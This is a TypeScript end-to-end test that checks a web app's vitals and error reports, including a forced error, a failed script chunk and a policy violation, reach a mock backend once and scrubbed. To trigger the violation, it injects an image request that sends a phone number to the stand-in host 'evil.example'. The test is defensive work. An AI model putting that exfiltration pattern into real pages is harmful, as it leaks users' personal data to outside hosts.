// The field data and error reports of a visit on WebKit (tests/e2e/field-reports.spec.ts walks the
// same in Chromium and Firefox): a page visit arrives at the mock as the vitals WebKit measures, with
// its route pattern; a forced error, a failed chunk and a policy violation each arrive once, scrubbed,
// the error's stack mapped back to a source file. The network fails through the journey's proxy
// (fault-proxy.ts) as Playwright's routes make it fail in the other engines.
import { DESKTOP, localized, open, pathIs, takeProblems, type Journey } from './webkit-journeys';
import type { Element } from './webdriver';

type Vitals = { routes: Record<string, Record<string, { p75: number; count: number }>> };
type StoredError = { kind: string; message: string; stack?: string; count: number; route: string };

/**
 * What WebKitGTK 2.50 measures (`PerformanceObserver.supportedEntryTypes`: mark, measure, navigation,
 * paint, resource): the first contentful paint and the time to the first byte. No largest contentful
 * paint, no event timing (INP) and no layout shifts (CLS), so web-vitals reports none of those
 * (docs/browser-engines.md).
 */
const WEBKIT_VITALS = ['FCP', 'TTFB'];

const TEXT = {
  ar: { properties: 'العقارات', careers: 'الوظائف', serverError: 'خطأ داخلي في الخادم' },
  en: { properties: 'Properties', careers: 'Careers', serverError: 'Internal Server Error' },
} as const;
/** A personal value the page carries into a report: it must not arrive. */
const MOBILE = '0551234567';

/**
 * Set in the page once the app's web-vitals took in what the browser measured: the app's chunk of
 * web-vitals loaded (its own import resolves first), the paint entries delivered to its observers
 * (ours, made after, hears them after), and the time to the first byte, which web-vitals reads in a
 * task of its own (ours is queued after it).
 */
const VITALS_TAKEN = `if (window.__vitalsTaken === undefined) {
  const chunk = performance.getEntriesByType('resource')
    .find((entry) => /\\/assets\\/web-vitals\\.attribution-[\\w-]+\\.js$/.test(entry.name));
  if (!chunk) return false;
  window.__vitalsTaken = false;
  import(chunk.name)
    .then(() => new Promise((done) => new PerformanceObserver((list, observer) => {
      observer.disconnect();
      done();
    }).observe({ type: 'paint', buffered: true })))
    .then(() => new Promise((done) => setTimeout(done)))
    .then(() => { window.__vitalsTaken = true; });
}
return window.__vitalsTaken;`;

/** A link of the part of the page `where` (a selector) whose text is `text`. */
const LINK_IN = `const [where, text] = arguments;
return [...document.querySelectorAll(where + ' a')].find(
  (a) => a.getClientRects().length > 0 && a.textContent.trim() === text) ?? null;`;

export const fieldReports: Journey = {
  title: 'a visit’s vitals and its errors reach the backend once, scrubbed',
  network: true,
  run: async (context) => {
    const { driver, locale, network, mock } = context;
    const t = TEXT[locale];
    if (!network) throw new Error('this journey runs with its network (network: true)');
    await driver.setViewport(DESKTOP.width, DESKTOP.height);
    // Every page load sampled (web-app-config's vitals_sample_rate 1).
    await driver.addCookie({
      name: 'mock_scenario',
      value: 'plain-http-cookies,field-data',
      path: '/',
    });

    await open(context, localized(locale, '/properties/1036'));
    await driver.waitFor('web-vitals to take in the visit', VITALS_TAKEN);
    // What a page sends when it is hidden (web-vitals and the reporter flush on `visibilitychange`).
    await driver.execute(`Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
      document.dispatchEvent(new Event('visibilitychange'));`);
    const vitals = await poll('the visit’s vitals at the mock', async () => {
      const { routes } = await mock<Vitals>('/__mock/vitals');
      const metrics = Object.keys(routes['/properties/:id'] ?? {}).sort();
      return metrics.length === WEBKIT_VITALS.length && routes;
    });
    expect(
      JSON.stringify(Object.keys(vitals['/properties/:id']!).sort()),
      JSON.stringify(WEBKIT_VITALS),
      'the vitals WebKit measures',
    );
    if ('/properties/1036' in vitals) throw new Error('an address arrived, not its route pattern');

    // A forced error in the app's own code: the list's answer without its results makes the list
    // throw (a TypeError in the card list), caught by the page's error boundary.
    await open(context, localized(locale, '/'));
    network.route(/\/api\/v1\/properties\/\?/, {
      json: { count: 1, next: null, previous: null, results: null },
    });
    await driver.click(await link(context, 'nav', t.properties));
    await driver.waitFor(
      'the error page',
      'return [...document.querySelectorAll("h1")].some((h) => h.textContent.trim() === arguments[0])',
      t.serverError,
    );
    // A policy violation: a picture from an origin the policy does not allow, a mobile in its address.
    await driver.execute(
      `const picture = new Image();
       picture.src = 'https://evil.example/pixel.png?mobile=' + arguments[0];
       document.body.append(picture);`,
      MOBILE,
    );
    await driver.waitFor(
      'the violation seen by the page',
      'return (window.__journeyProblems ?? []).some((p) => p.includes("evil.example"))',
    );
    // A chunk that cannot be loaded: the careers page's code, asked for once scripts fail; the app
    // then loads the page from the server, and what waited is sent as the page goes.
    network.route(/\/assets\/[^/?]+\.js(\?|$)/, 'abort');
    await driver.click(await link(context, 'footer', t.careers));
    await pathIs(driver, localized(locale, '/careers'));
    network.clear();
    // What this journey did on purpose is not a problem of its pages.
    const problems = await takeProblems(driver);
    const unexpected = problems.filter((problem) => !problem.includes('evil.example'));
    if (unexpected.length > 0) throw new Error(`the pages reported:\n${unexpected.join('\n')}`);

    const errors = await poll('the errors at the mock', async () => {
      const { errors: stored } = await mock<{ errors: StoredError[] }>('/__mock/errors');
      const kinds = new Set(stored.map(({ kind }) => kind));
      return ['boundary', 'chunk', 'csp'].every((kind) => kinds.has(kind)) && stored;
    });
    const boundary = errors.find(({ kind }) => kind === 'boundary')!;
    expect(boundary.count, 1, 'the boundary’s error once');
    expect(boundary.route, '/properties', 'its route pattern');
    if (!/src\/[\w/-]+\.tsx?:\d+/.test(boundary.stack ?? ''))
      throw new Error(`the stack is not mapped back to the sources:\n${boundary.stack}`);
    for (const kind of ['chunk', 'csp'])
      expect(
        JSON.stringify(errors.filter((error) => error.kind === kind).map(({ count }) => count)),
        '[1]',
        `the ${kind} report once`,
      );
    if (JSON.stringify(errors).includes(MOBILE)) throw new Error('a mobile number arrived');
  },
};

const link = (
  { driver }: { driver: Parameters<Journey['run']>[0]['driver'] },
  where: string,
  text: string,
) => driver.waitFor<Element>(`the link “${text}” in ${where}`, LINK_IN, where, text);

function expect(actual: unknown, expected: unknown, what: string) {
  if (actual !== expected)
    throw new Error(`${what}: expected ${String(expected)}, got ${String(actual)}`);
}

/** Polls `check` (at the mock) until it returns something truthy, for the journeys' wait. */
async function poll<T>(what: string, check: () => Promise<T | false>): Promise<T> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const value = await check();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
